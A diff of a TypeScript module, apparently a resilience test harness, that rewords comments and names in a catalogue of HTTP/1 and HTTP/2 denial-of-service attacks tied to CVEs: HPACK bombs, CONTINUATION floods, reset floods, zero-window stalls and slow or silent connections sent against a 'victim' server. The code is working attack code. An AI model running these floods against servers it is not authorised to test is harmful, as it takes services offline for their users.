@@ -1,4 +1,4 @@
-/** Known attacks on servers of HTTP, each with so many octets at most. What one connection may do, 20 do, and come again when they are closed. */
+/** Known attacks on HTTP servers, limited in bytes. Each uses 20 connections and reconnects when they are closed. */
 import { Buffer } from 'node:buffer';
 import { connect as connectTcp, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
@@ -21,37 +21,37 @@ import {
 } from './frames.ts';
 
 const megabyte = 1e6;
-/** An attack ends after so long, whatever is left of its octets. */
+/** Maximum duration of an attack. */
 const mostMs = 5_000;
-/** A server that takes nothing for so long is not waited for. */
+/** Time after which an unresponsive server is no longer awaited. */
 const patienceMs = 300;
 
 export interface Victim {
   readonly port: number;
-  /** Of a user without rights. */
+  /** Token of a user without permissions. */
   readonly token: string;
-  /** A list of 12 MB that the administrator may read. */
+  /** Path of a list of 12 MB that the administrator can read. */
   readonly list: string;
   readonly adminToken: string;
 }
 
 export interface Attack {
   readonly name: string;
-  /** Numbers of advisories. */
+  /** Ids of advisories. */
   readonly cves?: readonly string[];
-  /** Sends. Resolves with what ends its connections. */
+  /** Runs the attack. Resolves to the function that closes its connections. */
   run(victim: Victim): Promise<() => void>;
 }
 
-/** What one connection of HTTP/2 sends. */
+/** The data of one HTTP/2 connection. */
 interface Flood {
   readonly connections?: number;
   readonly octets?: number;
   /** Sent first on each connection. */
   readonly first?: (victim: Victim) => Buffer;
-  /** Sent again and again; `round` counts from 0 on each connection. */
+  /** Sent repeatedly; `round` counts from 0 on each connection. */
   readonly next: (round: number, victim: Victim) => Buffer;
-  /** The answers are read. Default: they are not. */
+  /** True if responses are read. Default: false. */
   readonly reads?: boolean;
 }
 
@@ -91,7 +91,7 @@ function flood(
             left -= bytes.length;
             if (!socket.write(bytes)) await taken(socket);
             else await sleep(0);
-            // It takes no more: another connection goes on.
+            // The socket is blocked, so another connection continues.
             if (socket.writableLength > megabyte) break;
           }
         }
@@ -112,19 +112,19 @@ const path = '/api/v1/namespaces/default/configmaps';
 const upload = (stream: number, victim: Victim): Buffer => post(stream, path, authorized(victim), ['content-type', 'application/json']);
 const head = (stream: number, victim: Victim, path: string, ...more: Field[]): Buffer =>
   frame(types.headers, flag.endHeaders | flag.endStream, stream, block([...pseudo('GET', path), authorized(victim), ...more]));
-/** A header block that goes on. */
+/** Returns an incomplete header block. */
 const openBlock = (victim: Victim): Buffer => frame(types.headers, 0, 1, block([...pseudo('GET', '/'), authorized(victim)]));
 const dataFrames = (stream: number, size: number, count: number): Buffer =>
   repeat(count, () => frame(types.data, 0, stream, Buffer.alloc(size, ' ')));
 
-/** An entry of 4,000 octets, then references to it of one octet each. */
+/** Returns an entry of 4,000 bytes, followed by references of one byte each. */
 const bomb = (round: number): Buffer => {
   const large = indexedField('x-bomb', 'b'.repeat(4_000));
   const fields = Buffer.concat([block(pseudo('GET', '/')), ...(round === 0 ? [large] : []), Buffer.alloc(10_000, 0xbe)]);
   return frame(types.headers, flag.endHeaders | flag.endStream, 1 + 2 * round, fields);
 };
 
-/** A lists' reader that gives no window, or an octet at a time. */
+/** Requests lists with a flow control window of zero or single bytes. */
 const unreadLists = (name: string, cves: readonly string[], more: (round: number) => Buffer): Attack =>
   flood(name, cves, {
     connections: 10,
@@ -178,7 +178,7 @@ function http1(name: string, cves: readonly string[], connections: number, bytes
   };
 }
 
-/** Connections that send nothing, or a little at a time. */
+/** Opens connections that send nothing or little. */
 function idle(
   name: string,
   count: number,
@@ -224,7 +224,7 @@ export const attacks: readonly Attack[] = [
         Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.windowUpdate, 0, streamOf(round, i), uint32(0))]),
       ),
   }),
-  flood('made-you-reset by DATA behind the end', ['CVE-2025-8671'], {
+  flood('made-you-reset by DATA after END_STREAM', ['CVE-2025-8671'], {
     octets: 8 * megabyte,
     reads: true,
     next: (round, victim) =>
@@ -232,7 +232,7 @@ export const attacks: readonly Attack[] = [
         Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.data, 0, streamOf(round, i), Buffer.from('d'))]),
       ),
   }),
-  flood('malformed requests, of which the resets are not read', ['CVE-2019-9514'], {
+  flood('malformed requests without reading the resets', ['CVE-2019-9514'], {
     octets: 8 * megabyte,
     next: (round) =>
       repeat(perRound, (i) => frame(types.headers, flag.endHeaders | flag.endStream, streamOf(round, i), Buffer.from([0x82, 0x87]))),
@@ -246,12 +246,12 @@ export const attacks: readonly Attack[] = [
     first: openBlock,
     next: () => repeat(2_000, () => frame(types.continuation, 0, 1)),
   }),
-  flood('large CONTINUATION without end', ['CVE-2024-27316', 'CVE-2023-45288'], {
+  flood('endless large CONTINUATION', ['CVE-2024-27316', 'CVE-2023-45288'], {
     octets: 64 * megabyte,
     first: openBlock,
     next: (round) => frame(types.continuation, 0, 1, block([[`x-${round}`, 'v'.repeat(16_000)]])),
   }),
-  flood('header blocks whose connection ends within them', ['CVE-2024-27983'], {
+  flood('connections that end within a header block', ['CVE-2024-27983'], {
     octets: 4 * megabyte,
     first: openBlock,
     next: (round) => {
@@ -284,7 +284,7 @@ export const attacks: readonly Attack[] = [
       ),
   }),
   flood('HPACK bomb', ['CVE-2016-6581', 'CVE-2016-1544'], { octets: 4 * megabyte, next: bomb }),
-  flood('names of fields that are never the same', ['CVE-2022-41717'], {
+  flood('field names that never repeat', ['CVE-2022-41717'], {
     next: (round, victim) =>
       head(
         1 + 2 * round,
@@ -294,7 +294,7 @@ export const attacks: readonly Attack[] = [
       ),
     reads: true,
   }),
-  flood('a string of HPACK that comes octet by octet', ['CVE-2022-41723'], {
+  flood('an HPACK string in single octets', ['CVE-2022-41723'], {
     first: (victim) =>
       Buffer.concat([
         openBlock(victim),
@@ -302,14 +302,14 @@ export const attacks: readonly Attack[] = [
       ]),
     next: () => repeat(1_000, () => frame(types.continuation, 0, 1, Buffer.from([0x1f]))),
   }),
-  unreadLists('lists to a window of 0', ['CVE-2019-9511', 'CVE-2019-9517'], (round) => {
+  unreadLists('lists with a window of 0', ['CVE-2019-9511', 'CVE-2019-9517'], (round) => {
     void round;
     return frame(types.ping, 0, 0, Buffer.alloc(8));
   }),
-  unreadLists('lists to a window that grows by an octet', ['CVE-2019-9511'], () =>
+  unreadLists('lists with a window that grows by single octets', ['CVE-2019-9511'], () =>
     repeat(10, (i) => frame(types.windowUpdate, 0, 1 + 2 * i, uint32(1))),
   ),
-  flood('lists over an open window that is not read', ['CVE-2019-9517'], {
+  flood('unread lists with an open window', ['CVE-2019-9517'], {
     connections: 10,
     octets: megabyte,
     first: () => Buffer.concat([settings([setting.initialWindowSize, 0x7fffffff]), frame(types.windowUpdate, 0, 0, uint32(0x7fff0000))]),
@@ -344,7 +344,7 @@ export const attacks: readonly Attack[] = [
   ),
   idle('silent TCP connections', 500, silentTcp),
   idle('silent TLS connections', 250, connectTls),
-  idle('a frame that comes octet by octet', 250, connectTls, (socket, round) => {
+  idle('a frame in single octets', 250, connectTls, (socket, round) => {
     const bytes = Buffer.concat([preface, frame(types.headers, flag.endStream, 1, block(pseudo('GET', '/')))]);
     socket.write(bytes.subarray(round * 2, round * 2 + 2));
   }),
